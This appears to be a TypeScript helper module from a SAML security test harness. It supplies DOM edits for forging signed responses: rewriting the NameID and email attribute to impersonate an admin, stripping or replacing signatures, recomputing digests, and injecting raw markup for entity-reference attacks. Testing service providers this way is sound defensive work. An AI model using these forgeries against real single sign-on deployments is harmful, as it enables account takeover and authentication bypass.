// DOM edits shared by the scenario builders: parse, edit and serialize a response; find its
// parts; make the attacker's version of an assertion; re-sign; and compute the digests and
// canonical forms an attacker forges. Attacks edit the DOM of a genuinely signed response; only
// the parser attacks (DOCTYPE, entity references) edit bytes, which a DOM cannot hold.
import { createHash } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { ExclusiveCanonicalization } from 'xml-crypto';
import type { SigningKey } from '../../crypto/keys.js';
import { HarnessError } from '../../errors.js';
import { attr, childElements, childPath, descendants, firstChild } from '../dom.js';
import { signElement } from '../signature.js';
import { ALGORITHM, DIGEST_ALGORITHMS, NS, type SignatureAlgorithmUrn } from '../urn.js';

/** Whom the attacker claims to be: the NameID and email of every forged assertion. */
export const EVIL_NAME_ID = 'admin@example.com';
export const EVIL_ID = '_evil0000000000000000000000000000000000000';
/** The attribute the SP maps the email from (RingCentral's `email`). */
export const EMAIL_ATTRIBUTE = 'email';

/** Parses, lets `edit` change the Response, serializes again. */
export function editXml(xml: string, edit: (response: Element, doc: Document) => void): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  edit(doc.documentElement, doc);
  return new XMLSerializer().serializeToString(doc);
}

/** The value, or an error saying the genuine response lacks what the scenario edits. */
export function required<T>(value: T | undefined, what: string): T {
  if (value === undefined) {
    throw new HarnessError('INPUT_INVALID', `this scenario edits ${what}, which the genuine response does not have`, {
      expected: `a genuine response with ${what}`,
      received: `no ${what}`,
    });
  }
  return value;
}

export function assertionIn(parent: Element): Element {
  return required(firstChild(parent, NS.assertion, 'Assertion'), 'an Assertion');
}

export function signatureIn(parent: Element): Element {
  return required(firstChild(parent, NS.dsig, 'Signature'), 'a Signature');
}

export function signedInfoIn(parent: Element): Element {
  return required(firstChild(signatureIn(parent), NS.dsig, 'SignedInfo'), 'a SignedInfo');
}

/** The signature that covers the assertion: the assertion's own, else the Response's. */
export function coveringSignature(response: Element): Element {
  const assertion = firstChild(response, NS.assertion, 'Assertion');
  return (assertion && firstChild(assertion, NS.dsig, 'Signature')) ?? signatureIn(response);
}

/** The ds:Reference of a SignedInfo (its only one, in a genuine signature). */
export function referenceOf(signedInfo: Element): Element {
  return required(firstChild(signedInfo, NS.dsig, 'Reference'), 'a Reference');
}

/** The ds:Reference of a signature. */
export function referenceIn(signature: Element): Element {
  return referenceOf(required(firstChild(signature, NS.dsig, 'SignedInfo'), 'a SignedInfo'));
}

export function digestValueIn(reference: Element): Element {
  return required(firstChild(reference, NS.dsig, 'DigestValue'), 'a DigestValue');
}

export function digestMethodOf(reference: Element): string {
  return required(attr(firstChild(reference, NS.dsig, 'DigestMethod'), 'Algorithm'), 'a DigestMethod');
}

export function setText(e: Element, value: string): void {
  while (e.firstChild) e.removeChild(e.firstChild);
  e.appendChild(e.ownerDocument.createTextNode(value));
}

export function nameIdOf(assertion: Element): Element {
  return required(childPath(assertion, [NS.assertion, 'Subject'], [NS.assertion, 'NameID']), 'a NameID');
}

export function setNameId(assertion: Element, value: string): void {
  setText(nameIdOf(assertion), value);
}

/** The AttributeValue elements of the attribute with this exact name. */
export function attributeValues(assertion: Element, name: string): Element[] {
  return childElements(assertion, NS.assertion, 'AttributeStatement')
    .flatMap((s) => childElements(s, NS.assertion, 'Attribute'))
    .filter((a) => attr(a, 'Name') === name)
    .flatMap((a) => childElements(a, NS.assertion, 'AttributeValue'));
}

/** The attacker's claim: NameID and email attribute become EVIL_NAME_ID. */
export function impersonate(assertion: Element): void {
  setNameId(assertion, EVIL_NAME_ID);
  for (const value of attributeValues(assertion, EMAIL_ATTRIBUTE)) setText(value, EVIL_NAME_ID);
}

/** A deep copy without its own (direct-child) signature. */
export function withoutSignature(e: Element): Element {
  const copy = e.cloneNode(true) as Element;
  const sig = firstChild(copy, NS.dsig, 'Signature');
  if (sig) copy.removeChild(sig);
  return copy;
}

/** The attacker's copy of the assertion: new ID, impersonating, signature dropped unless kept. */
export function evilCopy(assertion: Element, keepSignature = false): Element {
  const evil = keepSignature ? (assertion.cloneNode(true) as Element) : withoutSignature(assertion);
  evil.setAttribute('ID', EVIL_ID);
  impersonate(evil);
  return evil;
}

export function removeSignatures(response: Element): void {
  for (const sig of descendants(response, NS.dsig, 'Signature')) sig.parentNode?.removeChild(sig);
}

/** Replaces the signature on the element with this ID by a new one (KeyInfo carries `key`'s cert). */
export function resign(xml: string, id: string, key: SigningKey, algorithm: SignatureAlgorithmUrn = ALGORITHM.rsaSha256): string {
  const unsigned = editXml(xml, (_response, doc) => {
    for (const sig of descendants(doc, NS.dsig, 'Signature')) {
      if ((sig.parentNode as Element).getAttribute('ID') === id) sig.parentNode?.removeChild(sig);
    }
  });
  return signElement(unsigned, { key, algorithm, id, after: 'Issuer' });
}

/** Replaces every signature (assertion, Response) by one made with `key`, assertion first. */
export function resignAll(xml: string, key: SigningKey, algorithm: SignatureAlgorithmUrn): string {
  const response = new DOMParser().parseFromString(xml, 'text/xml').documentElement;
  const assertion = firstChild(response, NS.assertion, 'Assertion');
  const signed = [assertion, response].filter((e): e is Element => e !== undefined && firstChild(e, NS.dsig, 'Signature') !== undefined);
  return signed.reduce((out, e) => resign(out, attr(e, 'ID') ?? '', key, algorithm), xml);
}

/**
 * Exclusive c14n (no comments) of `element` without its own Signature: what a digest covers.
 * exc-c14n takes the namespaces an element uses from the nodes themselves; the ancestors would
 * only matter for an InclusiveNamespaces PrefixList, which our IdP never writes.
 */
export function canonicalForm(element: Element): string {
  return new ExclusiveCanonicalization().process(withoutSignature(element), {});
}

/** The DigestValue a genuine signature over `element` in its current state would carry. */
export function digestOf(element: Element, digestAlgorithm: string): string {
  const digest = (DIGEST_ALGORITHMS as Record<string, { hash: string }>)[digestAlgorithm];
  const hash = required(digest, `a known DigestMethod (not ${digestAlgorithm})`).hash;
  return createHash(hash).update(canonicalForm(element), 'utf8').digest('base64');
}

/** Puts `markup` (raw XML) in place of the NameID text: a byte edit for entity references. */
export function nameIdMarkup(xml: string, nameId: string, markup: string): string {
  const text = `>${nameId}</saml:NameID>`;
  if (!xml.includes(text)) throw new HarnessError('INTERNAL', 'scenario: the NameID text was not found in the response');
  return xml.replace(text, `>${markup}</saml:NameID>`);
}
